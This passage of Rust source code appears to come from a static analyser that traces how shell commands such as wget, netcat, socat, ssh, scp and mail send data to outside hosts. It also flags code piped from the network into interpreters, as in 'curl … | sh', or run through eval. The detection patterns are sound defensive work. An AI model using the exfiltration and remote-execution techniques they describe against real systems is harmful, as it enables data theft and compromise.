            if let Some(h) = url_host(&u.text()) {
                self.add_endpoint(&h, Some(u.display()), (u.start, u.end), u.encodings());
                if is_metadata_host(&h) {
                    meta = Some(u.display());
                }
                hosts.push(h);
            }
        }
        (hosts, meta)
    }

    fn wget(&mut self, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let mut sent = Val::default();
        let mut urls: Vec<WordVal> = Vec::new();
        let mut out_doc: Option<String> = None;
        for it in scan_opts(args, &WGET) {
            match it {
                Item::Pos(w) => urls.push(w),
                Item::Flag(_) => {}
                Item::Opt(name, v) => {
                    let x = match name.as_str() {
                        "--post-data" | "--body-data" | "--header" | "--user" | "--password"
                        | "--http-user" | "--http-password" | "-U" | "--user-agent"
                        | "--referer" | "--proxy-user" | "--proxy-password" => v.val(),
                        "--post-file" | "--body-file" if v.text() == "-" => stdin.clone(),
                        "--post-file" | "--body-file" => self.read_file(&v, v.start, v.end),
                        "-i" | "--input-file" if v.text() == "-" => stdin.clone(),
                        "-O" | "--output-document" => {
                            out_doc = Some(v.text());
                            continue;
                        }
                        _ => continue,
                    };
                    sent.merge(&x);
                }
            }
        }
        let (hosts, meta) = self.url_endpoints(&urls, &mut sent);
        let geo = hosts.iter().any(|h| is_geoip_host(h));
        self.add_flow("wget", SinkKind::Http, span, &sent, hosts);
        let mut net = self.net_val("wget", span, meta.as_deref());
        if geo {
            net.kinds.insert(DataKind::GeoIpAnswer);
        }
        match out_doc.as_deref() {
            Some("-") => return net,
            Some(f) if !f.contains(DYN) => {
                self.files.insert(file_key(f), net);
            }
            Some(_) => {}
            None => {
                for u in &urls {
                    if let Some(n) = url_file_name(&u.text()) {
                        self.files.insert(n, net.clone());
                    }
                }
            }
        }
        Val::default()
    }

    fn dns(&mut self, name: &str, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let short = match name {
            "ping" | "ping6" => "ciIwWstlpQSMmFT",
            "dig" => "tcpqxfkby",
            "host" => "tcWRNm",
            "drill" => "kpcsI",
            "traceroute" | "traceroute6" => "fgimNptwqsz",
            "tracepath" => "lmp",
            "mtr" => "cisBfmaPQ",
            _ => "",
        };
        let mut sent = Val::default();
        let mut hosts = Vec::new();
        let mut names = 0;
        for it in scan_opts(
            args,
            &Spec {
                short_arg: short,
                long_arg: &[],
                pair: "",
            },
        ) {
            let w = match it {
                Item::Pos(w) => w,
                Item::Opt(o, w) if name == "dig" && (o == "-q" || o == "-x") => w,
                _ => continue,
            };
            let t = w.text();
            if let Some(server) = t.strip_prefix('@') {
                if let Some(h) = host_of_name(server) {
                    self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                    hosts.push(h);
                }
                sent.merge(&w.val());
                continue;
            }
            if t.starts_with('+') {
                continue;
            }
            names += 1;
            sent.merge(&w.val());
            if let Some(h) = host_of_name(&t) {
                self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                hosts.push(h);
            }
        }
        if names == 0 && name == "nslookup" {
            // Interactive nslookup reads the names to look up from stdin.
            sent.merge(stdin);
        }
        // A name with no static domain (`ping $(hostname)`) goes to the local resolver, not to
        // a server someone chose.
        if !hosts.is_empty() {
            self.add_flow(name, SinkKind::Dns, span, &sent, hosts);
        }
        Val::default()
    }

    fn netcat(&mut self, name: &str, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let spec = if name == "telnet" {
            Spec {
                short_arg: "lenbXS",
                long_arg: &[],
                pair: "",
            }
        } else {
            Spec {
                short_arg: "psiwqxXecIOTVWM",
                long_arg: NCAT_LONG,
                pair: "",
            }
        };
        let mut sent = stdin.clone();
        let mut hosts = Vec::new();
        let mut first = true;
        for it in scan_opts(args, &spec) {
            match it {
                Item::Flag(f) if f == "-l" || f == "--listen" => {
                    return self.net_val(name, span, None)
                }
                Item::Pos(w) => {
                    sent.merge(&w.val());
                    if first {
                        if let Some(h) = host_of_name(&w.text()) {
                            self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                            hosts.push(h);
                        }
                    }
                    first = false;
                }
                _ => {}
            }
        }
        if !first {
            self.add_flow(name, SinkKind::Socket, span, &sent, hosts);
        }
        self.net_val(name, span, None)
    }

    fn socat(&mut self, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let mut sent = Val::default();
        let mut hosts = Vec::new();
        let mut network = false;
        let mut stdio = false;
        for it in scan_opts(
            args,
            &Spec {
                short_arg: "bTt",
                long_arg: &[],
                pair: "",
            },
        ) {
            let Item::Pos(w) = it else { continue };
            let t = w.text();
            if t == "-" {
                stdio = true;
                continue;
            }
            let (ty, rest) = t.split_once(':').unwrap_or((t.as_str(), ""));
            match ty.to_ascii_uppercase().as_str() {
                "STDIO" | "STDIN" | "STDOUT" => stdio = true,
                "TCP" | "TCP4" | "TCP6" | "TCP-CONNECT" | "TCP4-CONNECT" | "TCP6-CONNECT"
                | "UDP" | "UDP4" | "UDP6" | "UDP-SENDTO" | "UDP4-SENDTO" | "UDP-CONNECT"
                | "OPENSSL" | "OPENSSL-CONNECT" | "SSL" | "SCTP-CONNECT" => {
                    network = true;
                    sent.merge(&w.val());
                    let host = rest.split([':', ',']).next().unwrap_or("");
                    if let Some(h) = host_of_name(host) {
                        self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                        hosts.push(h);
                    }
                }
                "OPEN" | "FILE" | "GOPEN" => {
                    let path = rest.split(',').next().unwrap_or("").to_string();
                    let r =
                        self.read_path(&path, w.path_kinds(), (w.start, w.end), (w.start, w.end));
                    sent.merge(&r);
                }
                _ => {}
            }
        }
        if network {
            if stdio {
                sent.merge(stdin);
            }
            self.add_flow("socat", SinkKind::Socket, span, &sent, hosts);
        }
        Val::default()
    }

    fn scp(&mut self, name: &str, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let spec = match name {
            "rsync" => Spec {
                short_arg: "eBfT",
                long_arg: &[
                    "--rsh",
                    "--exclude",
                    "--include",
                    "--filter",
                    "--files-from",
                    "--password-file",
                    "--port",
                    "--rsync-path",
                ],
                pair: "",
            },
            _ => Spec {
                short_arg: "cFiJloPSDbBs",
                long_arg: &[],
                pair: "",
            },
        };
        let pos: Vec<WordVal> = scan_opts(args, &spec)
            .into_iter()
            .filter_map(|it| match it {
                Item::Pos(w) => Some(w),
                _ => None,
            })
            .collect();
        let remotes: Vec<Option<Option<String>>> =
            pos.iter().map(|w| remote_spec(&w.text())).collect();
        if !remotes.iter().any(|r| r.is_some()) && name != "sftp" {
            return Val::default();
        }
        let mut sent = if name == "sftp" {
            stdin.clone()
        } else {
            Val::default()
        };
        let mut hosts = Vec::new();
        for (w, r) in pos.iter().zip(&remotes) {
            sent.merge(&w.val());
            match r {
                Some(host) => {
                    if let Some(h) = host {
                        self.add_endpoint(h, None, (w.start, w.end), w.encodings());
                        hosts.push(h.clone());
                    }
                }
                None if name != "sftp" => {
                    let v = self.read_file(w, w.start, w.end);
                    sent.merge(&v);
                }
                None => {
                    if let Some(h) = host_of_name(w.text().rsplit('@').next().unwrap_or("")) {
                        self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                        hosts.push(h);
                    }
                }
            }
        }
        self.add_flow(name, SinkKind::NetworkCommand, span, &sent, hosts);
        Val::default()
    }

    fn ssh(&mut self, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let spec = Spec {
            short_arg: "bcDEeFIiJLlmOopQRSWw",
            long_arg: &[],
            pair: "",
        };
        let mut sent = stdin.clone();
        let mut hosts = Vec::new();
        let mut first = true;
        for it in scan_opts(args, &spec) {
            let Item::Pos(w) = it else { continue };
            if first {
                let t = w.text();
                let h = if t.contains("://") {
                    url_host(&t)
                } else {
                    host_of_name(t.rsplit('@').next().unwrap_or(""))
                };
                if let Some(h) = h {
                    self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                    hosts.push(h);
                }
                first = false;
            }
            sent.merge(&w.val());
        }
        if !first {
            self.add_flow("ssh", SinkKind::NetworkCommand, span, &sent, hosts);
        }
        self.net_val("ssh", span, None)
    }

    fn mail(&mut self, name: &str, args: &[WordVal], stdin: &Val, span: (usize, usize)) -> Val {
        let spec = Spec {
            short_arg: "sabcrqSAfFiBo",
            long_arg: &[],
            pair: "",
        };
        let mut sent = stdin.clone();
        let mut hosts = Vec::new();
        for it in scan_opts(args, &spec) {
            match it {
                Item::Opt(o, w) if o == "-s" => sent.merge(&w.val()),
                Item::Opt(o, w) if o == "-a" || o == "-A" => {
                    let r = self.read_file(&w, w.start, w.end);
                    sent.merge(&r);
                }
                Item::Pos(w) => {
                    if let Some((_, domain)) = w.text().rsplit_once('@') {
                        if let Some(h) = host_of_name(domain) {
                            self.add_endpoint(&h, None, (w.start, w.end), w.encodings());
                            hosts.push(h);
                        }
                    }
                    sent.merge(&w.val());
                }
                _ => {}
            }
        }
        self.add_flow(name, SinkKind::NetworkCommand, span, &sent, hosts);
        Val::default()
    }

    // ---- code --------------------------------------------------------------------------

    /// Analyses shell code found in an argument or stream. `exact` says where the text is
    /// written verbatim; otherwise every fact points at `span`.
    fn nested_shell(&mut self, text: &str, exact: Option<(usize, usize)>, span: (usize, usize)) {
        if self.nest >= MAX_NEST
            || self.out.nested_left == 0
            || text.len() > MAX_INPUT
            || text.trim().is_empty()
        {
            return;
        }
        self.out.nested_left -= 1;
        let map = match exact {
            Some((a, _)) => self.map.shift(a),
            None => Mapper::Fixed(self.map.span(span.0, span.1)),
        };
        let bytes = text.as_bytes();
        let mut parser = Parser::new(bytes, NESTED_DEPTH);
        let list = parser.parse_program();
        let heredocs = std::mem::take(&mut parser.heredocs);
        let mut sub = Analyzer::new(bytes, &heredocs, map, &mut *self.out, self.nest + 1);
        sub.vars = self.vars.clone();
        sub.files = self.files.clone();
        sub.sockets = self.sockets.clone();
        sub.cwd = self.cwd.clone();
        sub.eval_list(&list, &Val::default());
    }

    /// The code text of a word and where it is written verbatim, if it is.
    fn code_of(w: &WordVal) -> (String, Option<(usize, usize)>) {
        match w.exact {
            Some(at) => (w.display(), Some(at)),
            None => (w.static_text().unwrap_or_else(|| w.display()), None),
        }
    }

    fn inline_or_nested(
        &mut self,
        kind: Interp,
        code: String,
        exact: Option<(usize, usize)>,
        fallback: (usize, usize),
    ) {
        match kind {
            Interp::Sh => self.nested_shell(&code, exact, fallback),
            _ => {
                let (a, b) = exact.unwrap_or(fallback);
                let span = self.map.span(a, b);
                self.add_inline(kind.name(), code, span);
            }
        }
    }

    /// An interpreter given its program as an argument (`-c`/`-e`).
    fn run_code_arg(
        &mut self,
        cmd: &str,
        flag: &str,
        kind: Interp,
        w: &WordVal,
        span: (usize, usize),
    ) {
        let v = w.val();
        if let Some(net) = &v.net {
            self.add_dynamic(format!("{cmd} {flag} $({net})"), true, &v, span.0, span.1);
            return;
        }
        if let Some(d) = v.decoded {
            self.add_dynamic(
                format!("{cmd} {flag} $({})", decoder_cmd(d)),
                false,
                &v,
                span.0,
                span.1,
            );
        }
        let (code, exact) = Self::code_of(w);
        self.inline_or_nested(kind, code, exact, (w.start, w.end));
    }

    /// An interpreter reading its program from stdin (`curl … | sh`, `node <<EOF`).
    fn run_stdin(&mut self, cmd: &str, kind: Interp, stdin: &Val, span: (usize, usize)) {
        if let Some(net) = &stdin.net {
            self.add_dynamic(format!("{net} | {cmd}"), true, stdin, span.0, span.1);
            return;
        }
        if let Some(d) = stdin.decoded {
            self.add_dynamic(
                format!("{} | {cmd}", decoder_cmd(d)),
                false,
                stdin,
                span.0,
                span.1,
            );
        }
        if let Some(text) = stdin.text.clone() {
            self.inline_or_nested(kind, text, stdin.at, span);
        }
    }

    /// An interpreter (or `source`) running a file.
    fn run_file(&mut self, cmd: &str, kind: Interp, w: &WordVal, span: (usize, usize)) {
        if let Some(seg) = w.segs.iter().find(|s| s.proc_subst) {
            let v = &seg.val;
            if let Some(net) = &v.net {
                self.add_dynamic(format!("{cmd} <({net})"), true, v, span.0, span.1);
            } else if let Some(d) = v.decoded {
                self.add_dynamic(
                    format!("{cmd} <({})", decoder_cmd(d)),
                    false,
                    v,
                    span.0,
                    span.1,
                );
            }
            return;
        }
        let path = w.path();
        if path.contains(DYN) {
            return;
        }
        if let Some(fv) = self.files.get(&file_key(&path)).cloned() {
            if let Some(net) = &fv.net {
                self.add_dynamic(
                    format!("{net} -o {path} && {cmd} {path}"),
                    true,
                    &fv,
                    span.0,
                    span.1,
                );
                return;
            }
            if let Some(text) = fv.text {
                self.inline_or_nested(kind, text, None, span);
                return;
            }
        }
        if path.starts_with(['/', '~']) {
            return;
        }
        let p = self.package_path(&path);
        self.add_run(kind.name(), p, span.0, span.1);
    }

    /// `./x.sh`, `bin/setup`: a file run by path.
    fn run_path(&mut self, path: &str, span: (usize, usize)) {
        if path.contains(DYN) {
            return;
        }
        let kind = Interp::of(interpreter_for_path(path)).unwrap_or(Interp::Sh);
        let w = WordVal {
            segs: vec![Seg {
                text: path.to_string(),
                path: path.to_string(),
                display: path.to_string(),
                lit: true,
                ..Default::default()
            }],
            ..Default::default()
        };
        let cmd = format!("./{}", file_key(path).rsplit('/').next().unwrap_or(""));
        self.run_file(&cmd, kind, &w, span);
    }

    fn eval_builtin(&mut self, args: &[WordVal], span: (usize, usize)) {
        let mut v = Val::default();
        for a in args {
            v.merge(&a.val());
        }
        if let Some(net) = &v.net {
            self.add_dynamic(format!("eval $({net})"), true, &v, span.0, span.1);
            return;
        }
        if let Some(d) = v.decoded {
            self.add_dynamic(
                format!("eval $({})", decoder_cmd(d)),
                false,
                &v,
                span.0,
                span.1,
            );
        }
        match args {
            [one] => {
                let (code, exact) = Self::code_of(one);
                self.nested_shell(&code, exact, span);
            }
            _ => {
                let code = args
                    .iter()
                    .map(|a| a.static_text().unwrap_or_else(|| a.display()))
                    .collect::<Vec<_>>()
                    .join(" ");
                self.nested_shell(&code, None, span);
            }
        }
    }

    fn interpreter(
        &mut self,
        cmd: &str,
        kind: Interp,
        args: &[WordVal],
        stdin: &Val,
        span: (usize, usize),
    ) {
        let mut k = 0;
        let mut sh_c = false;
        // `sh -s`: the program comes from stdin even when arguments follow.
        let mut sh_s = false;
        while k < args.len() {
            let a = &args[k];
            let t = a.text();
            let is_opt = a.static_start()
                && t.len() > 1
                && (t.starts_with('-') || (kind == Interp::Sh && t.starts_with('+')));
            if !is_opt || t == "--" {
                let target = if t == "--" { args.get(k + 1) } else { Some(a) };
                match target {
                    Some(w) if w.text() != "-" && !sh_s => {
                        if sh_c {
                            self.run_code_arg(cmd, "-c", kind, w, span);
                        } else {
                            self.run_file(cmd, kind, w, span);
                        }
                        return;
                    }
                    _ => break,
                }
            }
            let (flag, inline) = match t.split_once('=') {
                Some((f, _)) if t.starts_with("--") => (f.to_string(), Some(a.suffix(f.len() + 1))),
                _ => (t.clone(), None),
            };
            match kind {
                Interp::Node => match flag.as_str() {
                    "-e" | "--eval" | "-p" | "--print" | "-pe" => {
                        if let Some(c) = inline.or_else(|| args.get(k + 1).cloned()) {
                            self.run_code_arg(cmd, "-e", kind, &c, span);
                        }
                        return;
                    }
                    "-r" | "--require" | "--import" | "--loader" | "--experimental-loader" => {
                        let m = match inline {
                            Some(m) => m,
                            None => {
                                k += 1;
                                match args.get(k) {
                                    Some(m) => m.clone(),
                                    None => break,
                                }
                            }
                        };
                        let p = m.text();
                        if p.starts_with("./") || p.starts_with("../") {
                            self.run_file(cmd, kind, &m, span);
                        }
                    }
                    "-C" | "--conditions" | "--title" | "--input-type" | "--env-file"
                    | "--inspect-port" | "--stack-size"
                        if inline.is_none() =>
                    {
                        k += 1
                    }
                    _ => {}
                },
                Interp::Sh => {
                    if !t.starts_with("--") {
                        let letters = &t[1..];
                        let minus = t.starts_with('-');
                        sh_c |= minus && letters.contains('c');
                        sh_s |= minus && letters.contains('s');
                        if letters.contains('o') || letters.contains('O') {
                            k += 1;
                        }
                    }
                }
                Interp::Python => {
                    let short = !flag.starts_with("--");
                    if flag == "-m" || (short && flag.ends_with('m')) {
                        // A module, not a file in the package.
                        return;
                    }
                    if short && flag.ends_with('c') {
                        if let Some(c) = args.get(k + 1) {
                            self.run_code_arg(cmd, "-c", kind, c, span);
                        }
                        return;
                    }
                    if matches!(flag.as_str(), "-W" | "-X" | "-Q") {
                        k += 1;
                    }
                }
                Interp::Perl | Interp::Ruby => {
                    if !flag.starts_with("--")
                        && (flag.ends_with('e') || flag.ends_with('E'))
                        && flag.len() <= 4
                    {
                        if let Some(c) = args.get(k + 1) {
                            self.run_code_arg(cmd, "-e", kind, c, span);
                        }
                        return;
                    }
                }
            }
            k += 1;
        }
        // No program argument: the program comes from stdin.
        self.run_stdin(cmd, kind, stdin, span);
    }
}

/// Skips a wrapper's options; `with_arg` lists the short options that take a separate value.
fn skip_opts(ws: &[WordVal], j: &mut usize, with_arg: &str) {
    while let Some(t) = ws.get(*j).filter(|w| w.static_start()).map(|w| w.text()) {
        if !t.starts_with('-') || t == "-" {
            break;
        }
        *j += 1;
        if t == "--" {
            break;
        }
        if t.len() == 2 && with_arg.contains(&t[1..]) {
            *j += 1;
        }
    }
}

fn pipeline_start(p: &Pipeline) -> Option<usize> {
    match p.cmds.first()? {
        Command::Simple(s) => Some(s.start),
        Command::Group { after, .. } => Some(after.start),
    }
}

fn pipeline_end(p: &Pipeline) -> Option<usize> {
    match p.cmds.last()? {
        Command::Simple(s) => Some(s.end),
        Command::Group { after, .. } => Some(after.end),
    }
}

/// A service that answers with the caller's country (`ipinfo.io`, `ip-api.com`).
fn is_geoip_host(host: &str) -> bool {
    telltale_knowledge::vendors::geoip_service(host).is_some_and(|s| s.returns_country)
}
